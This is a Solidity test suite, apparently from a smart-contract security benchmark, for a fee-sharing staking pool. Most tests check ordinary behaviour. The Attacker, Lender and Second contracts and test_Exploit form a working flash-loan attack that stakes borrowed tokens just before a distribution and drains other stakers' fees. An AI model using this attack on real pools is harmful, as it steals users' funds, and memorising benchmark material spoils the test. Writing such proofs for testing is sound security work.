// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./FeeSharingPool.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts@5.4.0/token/ERC20/extensions/ERC20Permit.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-bd26389d-3002-41dd-9854-ba5df64f4aba

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

interface IHook {
    function onTransfer() external;
}

/// Tells its deployer of transfers, while that is asked for.
contract Coin is ERC20, ERC20Permit {
    address private maker = msg.sender;
    bool private tells;

    constructor(string memory name) ERC20(name, name) ERC20Permit(name) {
        _mint(msg.sender, 50_000e18);
    }

    function tell(bool tells_) external {
        require(msg.sender == maker, "maker only");
        tells = tells_;
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (tells) IHook(maker).onTransfer();
    }
}

interface IBorrower {
    function onLoan(uint256 amount) external;
}

/// Lends tokens for the length of a call, free of charge.
contract Lender {
    Coin private token;

    constructor(Coin t) {
        token = t;
    }

    function lend(uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        token.transfer(msg.sender, amount);
        IBorrower(msg.sender).onLoan(amount);
        require(token.balanceOf(address(this)) >= before, "not returned");
    }
}

/// The attacker's second account.
contract Second {
    FeeSharingPool private pool;
    address private owner;

    constructor(FeeSharingPool p) {
        pool = p;
        owner = msg.sender;
        p.acceptFrom(msg.sender);
    }

    function leave(uint128 amount, Coin token) external {
        pool.unstake(amount);
        token.transfer(owner, amount);
    }
}

contract Attacker is IBorrower {
    FeeSharingPool private pool;
    Lender private lender;
    Coin private token;
    Second private second;

    constructor(FeeSharingPool p, Lender l, Coin t) {
        pool = p;
        lender = l;
        token = t;
        second = new Second(p);
        t.approve(address(p), type(uint256).max);
    }

    function run() external {
        lender.lend(token.balanceOf(address(lender)));
    }

    function onLoan(uint256 amount) external {
        pool.stake(uint128(amount));
        pool.distribute();
        pool.claim(address(this));
        pool.transferPosition(address(second), uint128(amount));
        second.leave(uint128(amount), token);
        token.transfer(msg.sender, amount);
    }
}

contract Proof is IHook {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD);
    address private constant GUARDIAN = address(0x6A);
    address private constant SETTINGS = address(0x5E);
    address private constant TREASURY = address(0x7E);
    address private constant ANA = address(0xA9A);
    address private constant RUI = address(0x4B1);
    address private constant EVA = address(0xE5A);
    address private constant STRANGER = address(0x57);
    bytes32 private constant SPOT = "spot";
    uint256 private constant KEY = 0xA9A;
    uint256 private constant START = 1_700_000_000;

    Coin private token;
    Coin private dollar;
    FeeSharingPool private pool;
    Attacker private mallory;
    bytes private reply;

    function setUp() public {
        vm.warp(START);
        token = new Coin("Exchange Token");
        dollar = new Coin("Dollar");
        pool = new FeeSharingPool(token, dollar, ADMIN, TREASURY, 1_000, 1e18);
        vm.startPrank(ADMIN);
        pool.grantRole(pool.GUARDIAN_ROLE(), GUARDIAN);
        pool.grantRole(pool.SETTINGS_ROLE(), SETTINGS);
        vm.stopPrank();
        vm.prank(SETTINGS);
        pool.setMarket(SPOT, true);
        _stake(ANA, 600e18);
        _stake(RUI, 400e18);
        dollar.approve(address(pool), type(uint256).max);
        pool.payFees(SPOT, 10_000e18);
        vm.warp(START + 8 days);
        Lender lender = new Lender(token);
        token.transfer(address(lender), 9_000e18);
        token.transfer(vm.addr(KEY), 100e18);
        mallory = new Attacker(pool, lender, token);
    }

    function _stake(address who, uint128 amount) private {
        token.transfer(who, amount);
        vm.startPrank(who);
        token.approve(address(pool), amount);
        pool.stake(amount);
        vm.stopPrank();
    }

    function _permit(uint256 amount) private returns (uint8, bytes32, bytes32) {
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 hash = keccak256(abi.encode(what, vm.addr(KEY), address(pool), amount, 0, START + 100 days));
        return vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", token.DOMAIN_SEPARATOR(), hash)));
    }

    function _stakesWithPermit(bool early) private {
        (uint8 v, bytes32 r, bytes32 s) = _permit(100e18);
        address kim = vm.addr(KEY);
        if (early) token.permit(kim, address(pool), 100e18, START + 100 days, v, r, s);
        vm.prank(kim);
        pool.stakeWithPermit(100e18, START + 100 days, v, r, s);
        (uint256 staked, , uint256 unlockTime) = pool.accountInfo(kim);
        require(staked == 100e18 && unlockTime == block.timestamp + 7 days, "with a permit");
    }

    function test_Regular() public {
        require(pool.nextDistribution() == START + 7 days && pool.feesFrom(SPOT) == 10_000e18, "paid in");
        require(pool.distribute() == 9_000e18 && pool.distributedIn(0) == 9_000e18, "distributed");
        require(pool.claimable(ANA) == 5_400e18 && pool.collect() == 1_000e18, "parts");
        require(dollar.balanceOf(TREASURY) == 1_000e18, "collected");
        vm.startPrank(ANA);
        require(pool.claim(EVA) == 5_400e18 && dollar.balanceOf(EVA) == 5_400e18, "six tenths");
        pool.unstake(100e18);
        vm.stopPrank();
        require(token.balanceOf(ANA) == 100e18 && pool.totalStaked() == 900e18, "unstaked");
        _stakesWithPermit(false);

        vm.prank(EVA);
        pool.acceptFrom(RUI);
        vm.startPrank(RUI);
        pool.transferPosition(EVA, 400e18);
        vm.stopPrank();
        pool.payFees(SPOT, 10_000e18);
        vm.warp(START + 16 days);
        require(pool.distribute() == 9_000e18 && pool.epochCount() == 2, "second epoch");
        require(pool.averageDistribution(2) == 9_000e18 && pool.averageDistribution(1) == 9_000e18, "average");
        vm.startPrank(RUI);
        require(pool.claim(RUI) == 3_600e18, "earned fees stay with the holder");
        vm.stopPrank();
        vm.startPrank(EVA);
        require(pool.exit() == 3_600e18 && token.balanceOf(EVA) == 400e18, "the receiver's epoch");
        vm.stopPrank();
        require(pool.claimable(ANA) == 4_500e18 && pool.claimable(vm.addr(KEY)) == 900e18, "the others");
        vm.prank(ANA);
        pool.unstake(100e18);
        _stake(vm.addr(KEY), 1e18);
        require(pool.claimable(ANA) == 4_500e18 && pool.claimable(vm.addr(KEY)) == 900e18, "unchanged");
        _settings();
    }

    function _settings() private {
        vm.startPrank(SETTINGS);
        pool.setTreasury(EVA, 2_000);
        pool.setTreasury(EVA, 0);
        pool.setMinimumStake(1_000e18);
        pool.setMarket("perp", true);
        pool.setMarket("perp", false);
        pool.renounceRole(pool.SETTINGS_ROLE(), SETTINGS);
        vm.stopPrank();
        vm.prank(GUARDIAN);
        pool.pause();
        Coin other = new Coin("Other");
        other.transfer(address(pool), 7e18);
        vm.startPrank(ADMIN);
        pool.unpause();
        pool.recover(other, STRANGER);
        require(other.balanceOf(STRANGER) == 7e18, "recovered");
        pool.revokeRole(pool.GUARDIAN_ROLE(), GUARDIAN);
        require(!pool.hasRole(pool.GUARDIAN_ROLE(), GUARDIAN), "revoked");
        vm.stopPrank();
    }

    /// A permit that somebody handed in first.
    function test_RefusesNoEarlierPermit() public {
        _stakesWithPermit(true);
    }

    /// The next call is made by who, and reverts for this reason.
    function _refuses(address who, string memory reason) private {
        vm.prank(who);
        vm.expectRevert(bytes(reason));
    }

    function test_RefusesSetups() public {
        vm.expectRevert("FeeSharingPool: zero stake token");
        new FeeSharingPool(IERC20(address(0)), dollar, ADMIN, TREASURY, 0, 0);
        vm.expectRevert("FeeSharingPool: zero fee token");
        new FeeSharingPool(token, IERC20(address(0)), ADMIN, TREASURY, 0, 0);
        vm.expectRevert("FeeSharingPool: equal tokens");
        new FeeSharingPool(token, token, ADMIN, TREASURY, 0, 0);
        vm.expectRevert("PoolSettings: zero admin");
        new FeeSharingPool(token, dollar, address(0), TREASURY, 0, 0);
        vm.expectRevert("PoolSettings: zero treasury");
        new FeeSharingPool(token, dollar, ADMIN, address(0), 0, 0);
        vm.expectRevert("PoolSettings: part too large");
        new FeeSharingPool(token, dollar, ADMIN, TREASURY, 2_001, 0);
        vm.expectRevert("PoolSettings: minimum too large");
        new FeeSharingPool(token, dollar, ADMIN, TREASURY, 0, 1_000e18 + 1);
    }

    function test_RefusesFees() public {
        vm.expectRevert("FeeSharingPool: unknown market");
        pool.payFees("perp", 1);
        vm.expectRevert("FeeSharingPool: zero amount");
        pool.payFees(SPOT, 0);
        vm.expectRevert("FeeSharingPool: nothing to collect");
        pool.collect();
        vm.prank(STRANGER);
        vm.expectRevert();
        pool.payFees(SPOT, 1);
    }

    function test_RefusesDistributions() public {
        pool.distribute();
        vm.expectRevert("FeeSharingPool: bad number of epochs");
        pool.averageDistribution(0);
        vm.expectRevert("FeeSharingPool: bad number of epochs");
        pool.averageDistribution(2);
        vm.warp(START + 15 days - 1);
        vm.expectRevert("FeeSharingPool: epoch not over");
        pool.distribute();
        FeeSharingPool empty = new FeeSharingPool(token, dollar, ADMIN, TREASURY, 0, 0);
        vm.warp(START + 30 days);
        vm.expectRevert("FeeSharingPool: nothing staked");
        empty.distribute();
    }

    function test_RefusesStakes() public {
        vm.startPrank(vm.addr(KEY));
        token.approve(address(pool), 100e18);
        vm.expectRevert("FeeSharingPool: zero amount");
        pool.stake(0);
        vm.expectRevert("FeeSharingPool: below the minimum");
        pool.stake(1e18 - 1);
        pool.stake(1e18);
        pool.stake(1);
        vm.expectRevert();
        pool.stake(99e18);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("FeeSharingPool: zero amount");
        pool.stake(0);
    }

    function test_RefusesPermits() public {
        (uint8 v, bytes32 r, bytes32 s) = _permit(100e18);
        vm.prank(ANA);
        vm.expectRevert();
        pool.stakeWithPermit(100e18, START + 100 days, v, r, s);
    }

    function test_RefusesEarlyExits() public {
        _stake(ANA, 1e18);
        vm.warp(START + 15 days - 1);
        _refuses(ANA, "FeeSharingPool: locked");
        pool.unstake(1);
        _refuses(ANA, "FeeSharingPool: locked");
        pool.exit();
        vm.warp(START + 15 days);
        _refuses(ANA, "FeeLedger: amount exceeds position");
        pool.unstake(601e18 + 1);
        _refuses(ANA, "FeeLedger: amount exceeds position");
        pool.unstake(0);
        _refuses(STRANGER, "FeeLedger: amount exceeds position");
        pool.exit();
        vm.prank(ANA);
        pool.unstake(601e18);
    }

    function test_RefusesTransfers() public {
        _refuses(RUI, "FeeSharingPool: not accepted");
        pool.transferPosition(EVA, 400e18);
        vm.startPrank(EVA);
        pool.acceptFrom(RUI);
        pool.acceptFrom(address(0));
        vm.stopPrank();
        _refuses(RUI, "FeeSharingPool: not accepted");
        pool.transferPosition(EVA, 400e18);
        vm.prank(EVA);
        pool.acceptFrom(RUI);
        _refuses(ANA, "FeeSharingPool: not accepted");
        pool.transferPosition(EVA, 1e18);
        _refuses(RUI, "FeeLedger: amount exceeds position");
        pool.transferPosition(EVA, 400e18 + 1);
        _refuses(RUI, "FeeLedger: amount exceeds position");
        pool.transferPosition(EVA, 0);
        vm.prank(RUI);
        pool.transferPosition(EVA, 100e18);
        _refuses(RUI, "FeeSharingPool: not accepted");
        pool.transferPosition(EVA, 100e18);
    }

    function test_RefusesSettings() public {
        vm.startPrank(SETTINGS);
        vm.expectRevert("PoolSettings: zero treasury");
        pool.setTreasury(address(0), 1);
        vm.expectRevert("PoolSettings: part too large");
        pool.setTreasury(EVA, 2_001);
        vm.expectRevert("PoolSettings: minimum too large");
        pool.setMinimumStake(1_000e18 + 1);
        vm.expectRevert("PoolSettings: zero market");
        pool.setMarket(bytes32(0), true);
        vm.stopPrank();
        vm.startPrank(ADMIN);
        vm.expectRevert("FeeSharingPool: not recoverable");
        pool.recover(token, ADMIN);
        vm.expectRevert("FeeSharingPool: not recoverable");
        pool.recover(dollar, ADMIN);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        Coin other = new Coin("Other");
        bytes32 role = pool.GUARDIAN_ROLE();
        vm.startPrank(STRANGER);
        vm.expectRevert();
        pool.setTreasury(STRANGER, 1);
        vm.expectRevert();
        pool.setMinimumStake(1);
        vm.expectRevert();
        pool.setMarket("perp", true);
        vm.expectRevert();
        pool.pause();
        vm.expectRevert();
        pool.recover(other, STRANGER);
        vm.expectRevert();
        pool.grantRole(role, STRANGER);
        vm.expectRevert();
        pool.revokeRole(role, GUARDIAN);
        vm.expectRevert();
        pool.renounceRole(role, GUARDIAN);
        vm.stopPrank();
    }

    function test_RefusesWhilePaused() public {
        vm.startPrank(GUARDIAN);
        pool.pause();
        vm.expectRevert();
        pool.unpause();
        vm.stopPrank();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.distribute();
        (uint8 v, bytes32 r, bytes32 s) = _permit(100e18);
        vm.startPrank(vm.addr(KEY));
        token.approve(address(pool), 100e18);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.stake(100e18);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.stakeWithPermit(100e18, START + 100 days, v, r, s);
        vm.stopPrank();
        vm.prank(ANA);
        pool.exit();
        require(token.balanceOf(ANA) == 600e18, "stakers can always leave");
    }

    /// Calls back while a token moves, and passes the revert on.
    function onTransfer() external override {
        (bool ok, bytes memory why) = address(pool).call(reply);
        if (!ok) {
            assembly {
                revert(add(why, 32), mload(why))
            }
        }
    }

    function _locks(bytes memory call_) private {
        reply = call_;
        vm.expectRevert(ReentrancyGuard.ReentrancyGuardReentrantCall.selector);
        pool.payFees(SPOT, 1);
    }

    function test_RefusesNested() public {
        Coin other = new Coin("Other");
        dollar.tell(true);
        bytes[8] memory calls = [
            abi.encodeCall(pool.distribute, ()),
            abi.encodeCall(pool.claim, (EVA)),
            abi.encodeCall(pool.collect, ()),
            abi.encodeCall(pool.stake, (1)),
            abi.encodeCall(pool.stakeWithPermit, (1, 0, 0, 0, 0)),
            abi.encodeCall(pool.unstake, (1)),
            abi.encodeCall(pool.exit, ()),
            abi.encodeCall(pool.transferPosition, (EVA, 1))
        ];
        for (uint256 i = 0; i < 8; ++i) _locks(calls[i]);
        _locks(abi.encodeCall(pool.payFees, (SPOT, 1)));
        _locks(abi.encodeCall(pool.recover, (other, EVA)));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(mallory)) >= 8_100e18 - 1e9, "no fees");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function money() public view returns (address) {
        return address(dollar);
    }
}
